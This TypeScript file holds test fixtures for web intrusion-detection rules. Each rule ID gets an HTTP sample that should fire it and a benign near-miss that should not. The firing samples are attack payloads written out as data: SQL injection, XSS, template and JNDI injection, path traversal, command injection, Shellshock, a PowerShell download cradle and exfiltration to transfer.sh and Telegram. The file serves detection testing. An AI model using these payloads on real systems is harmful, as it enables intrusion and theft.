import { http, repeat, type Traffic } from './traffic.js';

/** Traffic on which a rule fires, and traffic close to it on which it does not. */
export interface RuleCase {
  fires: Traffic;
  near: Traffic;
}

const uri = (fires: string, near: string): RuleCase => ({ fires: http({ uri: fires }), near: http({ uri: near }) });
const body = (fires: string, near: string): RuleCase => ({ fires: http({ body: fires }), near: http({ body: near }) });
const answer = (fires: string, near: string): RuleCase => ({
  fires: http({ answer: fires }),
  near: http({ answer: near }),
});
const header = (name: string, fires: string, near: string): RuleCase => ({
  fires: http({ headers: { [name]: fires } }),
  near: http({ headers: { [name]: near } }),
});
const agent = (fires: string, near: string): RuleCase => header('User-Agent', fires, near);
const status = (code: string, count: number, gap: number): RuleCase => ({
  fires: repeat(count, gap, (at, sport) => http({ status: code }, at, sport)),
  near: repeat(count - 1, gap, (at, sport) => http({ status: code }, at, sport)),
});

/** By sid. */
export const WEB_CASES: Readonly<Record<number, RuleCase>> = {
  9000000: uri('/a?id=1%20UNION%20SELECT%20user,pass%20FROM%20t', '/a?q=credit%20union%20to%20select%20a%20car'),
  9000001: body('id=1+union+select+1,2', 'text=a+union+of+states+may+select'),
  9000002: uri("/a?u=x'%20or%20'1'='1", "/a?u=o'%20or%20b%20equals%20c"),
  9000003: uri('/a?id=1%20and%20sleep(5)', '/blog/sleep%20(better)'),
  9000004: uri('/a?id=1%20from%20information_schema.tables', '/docs/information_schema.html'),
  9000005: uri("/a?id=1';%20drop%20table%20users", '/a?q=1;%20a%20drop%20of%20oil'),
  9000006: uri('/a?id=1;exec%20xp_cmdshell', '/a?id=cmdshell'),
  9000007: uri('/a?id=extractvalue(1,concat(0x7e,version()))', '/a?f=extractvalue(1)'),
  9000008: uri("/a?id=1%20into%20outfile%20'/tmp/x'", '/a?q=into%20outfile'),
  9000009: header('Cookie', "id=1' or 1=1", 'id=1; theme=union'),
  9000010: answer('You have an error in your SQL syntax near', 'You have an error in your form'),
  9000100: uri('/s?q=%3Cscript%3Ealert(1)', '/s?q=%3Cscripture%3E'),
  9000101: uri('/s?q=%3Cimg%20src=x%20onerror=alert(1)%3E', '/s?q=%3Cb%3Eon%20error%20=%20stop'),
  9000102: uri('/s?u=javascript:alert(1)', '/s?u=learn%20javascript:%20basics'),
  9000103: body('c=<script>alert(1)</script>', 'c=<script>about scripts'),
  9000104: uri('/s?q=document.cookie', '/s?q=document.cookies'.replace('cookies', 'title')),
  9000105: uri('/s?n={{7*7}}', '/s?n={{name}}'),
  9000106: uri('/s?n={{x.__class__.__mro__}}', '/s?n=__class__'),
  9000107: uri('/s?x=$%7BT(java.lang.Runtime).getRuntime()%7D', '/s?x=getRuntime'),
  9000108: header('X-Api', '${jndi:ldap://203.0.113.1/a}', '${name} ldap'),
  9000109: uri('/s?x=$%7Bjndi:rmi://203.0.113.1/a%7D', '/s?x=jndi:rmi'),
  9000200: uri('/x/..%2f..%2f..%2fsecret', '/x/../y/z'),
  9000201: uri('/f?n=/etc/passwd', '/f?n=/etc/password-policy'),
  9000202: uri('/f?n=c:/windows/win.ini', '/f?n=windows/winners'),
  9000203: uri('/f?p=php://filter/read=convert.base64-encode/resource=x', '/f?p=php%20filter'),
  9000204: uri('/f?p=http://203.0.113.1/shell.txt', '/f?next=http://shop.example/page.html'),
  9000205: uri('/p?h=1;cat%20x', '/p?h=1;catalog=2'),
  9000206: body('h=1%3Bwhoami', 'h=1%3Bwho'),
  9000207: header('X-A', '() { :; }; echo x', '() { function }'),
  9000208: answer('uid=33(www-data) gid=33(www-data)', 'uid=33&gid=33'),
  9000209: answer('root:x:0:0:root:/root:/bin/bash', 'root:x:1:0'),
  9000210: uri('/uploads/a.php?cmd=ls', '/uploads/a.png?cmd=ls'),
  9000211: uri('/.env', '/.environment'),
  9000212: uri('/.git/config', '/.github/config'),
  9000300: agent('sqlmap/1.8', 'not sqlmap/1.8'),
  9000301: agent('Mozilla/5.00 (Nikto/2.5)', 'Mozilla/5.0 (Nik)'),
  9000302: agent('Mozilla/5.0 (compatible; Nmap Scripting Engine)', 'Mozilla/5.0 (compatible; Nmap)'),
  9000303: agent('gobuster/3.6', 'my gobuster'),
  9000304: agent('Mozilla/5.0 Nuclei - Open-source', 'Mozilla/5.0 nucleic'),
  9000305: agent('Mozilla/5.0 (Hydra)', 'Mozilla/5.0 Hydra'),
  9000306: status('404 Not Found', 60, 0.2),
  9000404: status('401 Unauthorized', 15, 0.5),
  9000503: header('X-a', '4711', 'b'),
  9000504: agent('slowhttptest', 'a slowhttptest'),
  9000506: header('Range', `bytes=${'5-1,'.repeat(21)}9-`, 'bytes=0-99, 200-299'),
  9000602: answer("IEX (New-Object Net.WebClient).DownloadString('x')", 'call DownloadString('),
  9000603: {
    fires: http({ uri: '/a.ps1', headers: { 'User-Agent': 'Mozilla/5.0 WindowsPowerShell/5.1' } }),
    near: http({ uri: '/a.zip', headers: { 'User-Agent': 'Mozilla/5.0 WindowsPowerShell/5.1' } }),
  },
  9000604: {
    fires: http({ uri: '/bins/x.sh', headers: { 'User-Agent': 'Wget/1.21', Host: '198.51.100.7' } }),
    near: http({ uri: '/bins/x.sh', headers: { 'User-Agent': 'Wget/1.21', Host: 'mirror.example' } }),
  },
  9000704: body('-----BEGIN OPENSSH PRIVATE KEY-----', '-----BEGIN PUBLIC KEY-----'),
  9000705: body('f=root:x:0:0:root', 'f=root:x:0'),
  9000706: {
    fires: http({ method: 'PUT', headers: { Host: 'transfer.sh' }, body: 'x' }),
    near: http({ method: 'GET', headers: { Host: 'transfer.sh' } }),
  },
  9000707: {
    fires: http({ uri: '/bot1:x/sendDocument', headers: { Host: 'api.telegram.org' }, body: 'x' }),
    near: http({ uri: '/bot1:x/getMe', headers: { Host: 'api.telegram.org' } }),
  },
};
